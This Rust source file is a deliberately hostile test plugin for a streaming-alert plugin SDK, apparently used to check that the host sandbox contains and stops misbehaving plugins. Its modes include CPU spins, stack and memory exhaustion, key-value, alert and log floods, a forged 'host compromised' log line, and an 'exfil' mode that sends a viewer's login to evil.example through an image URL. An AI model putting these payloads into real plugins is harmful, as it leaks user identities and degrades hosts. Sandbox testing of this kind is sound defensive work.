//! A plugin written by an attacker, asking for no permission. Each attack
//! is one mode: `test.hostile` events carry it in `details.mode` (on-event
//! attacks); `init`, `format` and `render` attacks are chosen in its
//! settings, since those calls get no event of the attacker's choosing.
//! `tests/hostile.rs` runs every mode against a real host and checks that a
//! bystander's alert still arrives and that this plugin is stopped with a
//! reason.

use stagehand_plugin_sdk::prelude::*;

pub struct HostilePlugin {
    settings: Settings,
    /// `leak` events this instance served (a fresh instance starts at 0).
    leaks: u64,
}

impl HostilePlugin {
    fn setting(&self, key: &str) -> String {
        self.settings.str_or(key, "")
    }
}

/// Sleeps through WASI: `std::thread::sleep` is a `poll` on a clock.
fn sleep_long() {
    std::thread::sleep(std::time::Duration::from_secs(60));
}

/// Waits on a clock pollable directly, without std.
#[cfg(target_arch = "wasm32")]
fn poll_clock() {
    let pollable = wasip2::clocks::monotonic_clock::subscribe_duration(60_000_000_000);
    wasip2::io::poll::poll(&[&pollable]);
}

#[cfg(not(target_arch = "wasm32"))]
fn poll_clock() {
    sleep_long();
}

/// Blocks on a clock pollable's own `block`.
#[cfg(target_arch = "wasm32")]
fn block_clock() {
    wasip2::clocks::monotonic_clock::subscribe_duration(60_000_000_000).block();
}

#[cfg(not(target_arch = "wasm32"))]
fn block_clock() {
    sleep_long();
}

fn spin() -> ! {
    let mut x: u64 = 0;
    loop {
        x = std::hint::black_box(x.wrapping_add(1));
    }
}

/// Recurses until the stack runs out (the host cuts it off at 512 KiB).
#[inline(never)]
fn recurse(depth: u64) -> u64 {
    let pad = std::hint::black_box([depth; 32]);
    if std::hint::black_box(depth) == u64::MAX {
        return pad[0];
    }
    recurse(depth + 1) + pad[0]
}

fn big(bytes: usize) -> String {
    "A".repeat(bytes)
}

impl Plugin for HostilePlugin {
    fn new(settings: Settings) -> Result<Self, String> {
        let plugin = HostilePlugin { settings, leaks: 0 };
        match plugin.setting("init").as_str() {
            "spin" => spin(),
            "sleep" => {
                sleep_long();
                Ok(plugin)
            }
            "fail-long" => Err(big(1 << 20)),
            _ => Ok(plugin),
        }
    }
}

impl Formatter for HostilePlugin {
    fn format(&mut self, event: &Event) -> Option<Display> {
        match self.setting("format").as_str() {
            "spin" => spin(),
            "sleep" => sleep_long(),
            "flood" => {
                return Some(Display::new("x", "x", "#000", big(1 << 20)));
            }
            _ => {}
        }
        (event.kind == "test.hostile").then(|| Display::new("Hostile", "☠", "#000", "hostile"))
    }
}

impl Actions for HostilePlugin {
    fn on_event(&mut self, event: &Event) -> Result<Vec<Action>, String> {
        if event.kind != "test.hostile" {
            return Ok(Vec::new());
        }
        match event.field("mode").unwrap_or_default().as_str() {
            "sleep" => sleep_long(),
            "poll" => poll_clock(),
            "block" => block_clock(),
            "spin" => spin(),
            "slow" => {
                // Busy for 40 ms: within the deadline, but slow.
                let start = host::now_ms();
                while host::now_ms() < start + 40 {
                    std::hint::black_box(start);
                }
            }
            "recurse" => {
                std::hint::black_box(recurse(0));
            }
            "memory" => {
                // 640 MiB at once (reserved: the cap is hit when memory
                // grows, before a byte is touched).
                let hog: Vec<u8> = Vec::with_capacity(640 << 20);
                std::hint::black_box(&hog);
            }
            "leak" => {
                // Keeps `mib` MiB for good, as a language runtime's heap
                // does; answers with the count kept in kv (which survives a
                // fresh instance) and this instance's own count.
                let mib: usize = event.field("mib").and_then(|m| m.parse().ok()).unwrap_or(1);
                std::hint::black_box(Vec::leak(vec![1u8; mib << 20]));
                let served = host::kv_get_u64("leaked") + 1;
                host::kv_set("leaked", &served.to_string());
                self.leaks += 1;
                let message = format!("{served} {}", self.leaks);
                return Ok(vec![Action::ShowAlert(Alert::new("leak", message))]);
            }
            "kv-flood" => {
                // 240 KiB more per event (just under what one call may
                // write), in 60 KiB values: 69 events pass the 16 MiB a
                // plugin may keep.
                let round = host::kv_get_u64("round");
                let value = big(60 << 10);
                for i in 0..4 {
                    host::kv_set(&format!("junk-{round}-{i}"), &value);
                }
                host::kv_set("round", &(round + 1).to_string());
            }
            "kv-burst" => {
                // 4 MiB in one call: over what one call may write.
                let value = big(60 << 10);
                for i in 0..68 {
                    host::kv_set(&format!("burst-{i}"), &value);
                }
            }
            "kv-keys" => {
                for i in 0..20_000 {
                    host::kv_set(&format!("k{i}"), "");
                }
            }
            "alert-flood" => {
                return Ok((0..500)
                    .map(|i| Action::ShowAlert(Alert::new("flood", format!("{i}"))))
                    .collect());
            }
            "log-flood" => {
                for i in 0..100_000 {
                    host::log(
                        Level::Error,
                        &format!("flood line {i}\nforged: ERROR host compromised"),
                    );
                }
            }
            "stderr-flood" => {
                for i in 0..200_000 {
                    eprintln!("stderr flood {i}");
                }
            }
            "error-flood" => return Err(big(1 << 20)),
            "exfil" => {
                let mut alert = Alert::new("hi", "hi");
                alert.image_url = Some(format!(
                    "https://evil.example/pixel.png?viewer={}",
                    event
                        .viewer
                        .as_ref()
                        .map(|v| v.login.as_str())
                        .unwrap_or_default()
                ));
                return Ok(vec![Action::ShowAlert(alert)]);
            }
            "huge-alert" => return Ok(vec![Action::ShowAlert(Alert::new("x", big(1 << 20)))]),
            _ => {}
        }
        Ok(Vec::new())
    }
}

impl Renderer for HostilePlugin {
    fn render(&mut self, mut alert: Alert) -> Option<Alert> {
        match self.setting("render").as_str() {
            "spin" => spin(),
            "sleep" => {
                sleep_long();
                None
            }
            "exfil" => {
                alert.image_url = Some("https://evil.example/pixel.png".into());
                Some(alert)
            }
            _ => None,
        }
    }
}

stagehand_plugin_sdk::export!(HostilePlugin);

#[cfg(test)]
mod tests {
    use super::*;
    use stagehand_plugin_sdk::serde_json::json;
    use stagehand_plugin_sdk::testing;

    #[test]
    fn it_behaves_when_no_attack_is_chosen() {
        testing::reset();
        let mut p = HostilePlugin::new(Settings::default()).unwrap();
        let e = testing::follow("a");
        assert!(p.format(&e).is_none());
        assert!(p.on_event(&e).unwrap().is_empty());
        let flood = testing::other("test.hostile", json!({"mode": "alert-flood"}));
        assert_eq!(p.on_event(&flood).unwrap().len(), 500);
    }
}
